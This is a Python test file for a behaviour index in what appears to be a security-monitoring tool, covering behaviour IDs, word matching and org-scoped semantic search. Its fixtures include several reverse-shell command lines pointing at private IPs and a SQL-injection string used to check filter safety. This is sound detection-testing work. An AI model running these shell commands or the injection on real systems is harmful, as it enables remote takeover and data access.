"""streams/behaviours.py: behaviour ids, the LanceDB behaviours table and its search."""

from __future__ import annotations

from pathlib import Path

from schemas.events import RawEvent
from streams.behaviours import BehaviourIndex, BehaviourRow, behaviour_id, command_words, word_match, query_words

REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def event(cmd: str, org: str = "acme", workload: str = "web", ts: float = 1.0) -> RawEvent:
    return RawEvent(ts=ts, org_id=org, workload=workload, process_name=cmd.split()[0].rsplit("/", 1)[-1], cmdline=cmd)


def test_behaviour_id_collapses_volatile_values_only() -> None:
    a = behaviour_id(event("tar czf /backup/site-20260301.tgz /srv/www"))
    assert a == behaviour_id(event("tar czf /backup/site-20260302.tgz /srv/www"))
    assert a != behaviour_id(event("tar czf /backup/site-20260301.tgz /etc"))
    assert a != behaviour_id(event("tar czf /backup/site-20260301.tgz /srv/www", workload="db"))
    assert a != behaviour_id(event("tar czf /backup/site-20260301.tgz /srv/www", org="other"))
    assert len(a) == 24


def test_words_split_paths_and_match_by_stem_or_prefix() -> None:
    assert command_words("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == "bash dev tcp"
    assert word_match(query_words("persistence via cron jobs"), "crontab tmp cron txt") == 1 / 3
    assert word_match(query_words("crontab"), "cron daily") == 1.0
    assert word_match(query_words("the"), "anything") == 0.0


def test_add_embeds_new_behaviours_and_updates_known_ones(tmp_path: Path) -> None:
    index = BehaviourIndex(str(tmp_path))
    events = [event("ls -la /srv/www/app-1", ts=1), event("ls -la /srv/www/app-2", ts=5), event(REVERSE_SHELL, ts=3)]
    assert index.add(events) == 2
    assert index.count() == 2
    row = BehaviourRow("acme", "web", behaviour_id(events[0]), "ls -la /srv/www/app-9", "ls", 3, 0.5, 9.0, 0.7)
    assert index.add([row]) == 0
    hit = next(h for h in index.search("list files", None) if h.behaviour_id == row.behaviour_id)
    assert (hit.count, hit.first_ts, hit.last_ts, hit.max_score) == (5, 0.5, 9.0, 0.7)
    assert hit.exemplar == "ls -la /srv/www/app-1"  # (the first exemplar stays)


def test_search_finds_intent_and_filters_orgs_inside_the_query(tmp_path: Path) -> None:
    index = BehaviourIndex(str(tmp_path))
    benign = ["ls -la /var/log", "systemctl restart nginx", "tar czf /backup/site.tgz /srv/www", "git pull --ff-only"]
    index.add([event(c) for c in benign] + [event(REVERSE_SHELL), event("nc -e /bin/sh 10.0.0.9 9001", org="other")])
    hits = index.search("reverse shell", None, limit=3)
    assert {h.exemplar for h in hits[:2]} == {REVERSE_SHELL, "nc -e /bin/sh 10.0.0.9 9001"}, hits
    assert all(0 <= h.similarity <= 1 for h in hits)
    mine = index.search("reverse shell", {"acme"}, limit=10)
    assert mine[0].exemplar == REVERSE_SHELL and {h.org_id for h in mine} == {"acme"}
    assert index.search("reverse shell", {"nobody"}) == [] and index.search("reverse shell", set()) == []
    assert {h.workload for h in index.search("shell", {"acme", "other"}, workload="db")} == set()
    # Names are matched as words, even where the embedding alone would not rank them first.
    assert index.search("nginx", {"acme"}, limit=1)[0].exemplar == "systemctl restart nginx"
    # A quote in a filter value is data, not SQL.
    assert index.search("shell", {"a' OR '1'='1"}) == []


def test_similar_and_nearest_known_stay_in_the_org_and_workload(tmp_path: Path) -> None:
    index = BehaviourIndex(str(tmp_path))
    rows = [event(REVERSE_SHELL), event("nc -e /bin/sh 10.0.0.9 9001"), event("ls -la /var/log"),
            event("nc -e /bin/sh 10.0.0.9 9002", org="other"), event("sh -i >& /dev/udp/10.0.0.1/53 0>&1", workload="db")]
    index.add(rows)
    like = index.similar("acme", behaviour_id(rows[0]), limit=5)
    assert like[0].exemplar == "sh -i >& /dev/udp/10.0.0.1/53 0>&1" or like[0].exemplar.startswith("nc -e")
    assert {h.org_id for h in like} == {"acme"} and behaviour_id(rows[0]) not in {h.behaviour_id for h in like}
    known = index.nearest_known("acme", "web", behaviour_id(rows[0]), limit=5)
    assert {h.workload for h in known} == {"web"} and known[0].exemplar.startswith("nc -e")
    assert index.nearest_known("acme", "web", "ncat 10.1.1.1 4444 -e /bin/bash", limit=1)[0].exemplar.startswith(("nc -e", "bash -i"))
    assert index.similar("other", behaviour_id(rows[0])) == []  # (another org's id: nothing)
